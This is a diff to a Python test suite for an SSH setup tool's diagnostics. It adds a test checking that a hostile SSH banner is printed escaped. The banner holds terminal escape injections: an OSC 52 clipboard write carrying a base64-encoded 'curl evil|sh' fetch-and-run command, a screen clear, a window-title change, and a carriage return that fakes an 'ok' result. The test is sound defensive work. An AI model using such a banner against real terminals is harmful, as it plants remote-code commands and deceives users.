@@ -15,8 +15,8 @@ from sshsetup.paths import Paths
 from sshsetup.ssh import block as sshconfig
 from sshsetup.support.doctor import CHECKS, REMOTE_CHECKS
 from tests.helpers import run_cli
-from tests.support.doctor.conftest import real_sshd  # noqa: F401 - fixture
-from tests.support.doctor.servers import RealSshd, free_port
+from tests.support.doctor.conftest import real_sshd, servers  # noqa: F401 - fixtures
+from tests.support.doctor.servers import RealSshd, Server, free_port
 
 
 def sites_file(tmp_path: Path, port: int, host: str = "127.0.0.1") -> Path:
@@ -204,3 +204,19 @@ def test_through_the_cli_an_error_and_a_hint(fake_home: Path, capsys: pytest.Cap
         f"error: cannot write the report to {fake_home}/nope/r.json: the directory {fake_home}/nope does not exist",
         f"hint: create it first (mkdir -p {fake_home}/nope), or give a file in an existing directory",
     ]
+
+
+# --------------------------------------------------------------------------- terminal safety
+
+
+def test_a_hostile_banner_reaches_the_terminal_escaped(tmp_path: Path, servers: list[Server],
+                                                       capsys: pytest.CaptureFixture[str]) -> None:
+    """OSC 52 (clipboard), a screen clear, a window title and a CR that fakes a result, sent as the SSH banner."""
+    evil = b"SSH-2.0-x\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b]0;pwned\x07\r\x9b31m ok\r\n"
+    s = Server(mode="close", greeting=b"\x1b[2Jnoise\r\n" + evil)
+    servers.append(s)
+    assert doctor(ids=("net.banner",), sites=("tb",), sites_file=sites_file(tmp_path, s.port), probe_timeout=1) == 0
+    out = capsys.readouterr().out
+    assert out.splitlines()[2] == ("✓ net.banner (tb): IPv4: SSH-2.0-x\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J\\x1b]0;pwned\\x07"
+                                   "\\x0d\ufffd31m ok")
+    assert not any(c in out for c in "\x1b\x07\r\x9b")
